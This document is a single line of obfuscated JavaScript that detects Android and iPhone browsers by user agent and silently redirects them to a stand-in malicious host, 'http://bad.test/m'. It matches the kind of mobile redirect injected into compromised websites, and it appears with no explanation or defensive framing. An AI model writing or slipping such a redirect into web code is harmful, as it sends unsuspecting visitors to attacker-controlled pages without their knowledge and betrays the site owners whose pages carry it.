if (navigator["userAgent"]["match"](/Android|iPhone/i)) window["location"]["href"] = "http://bad.test/m";
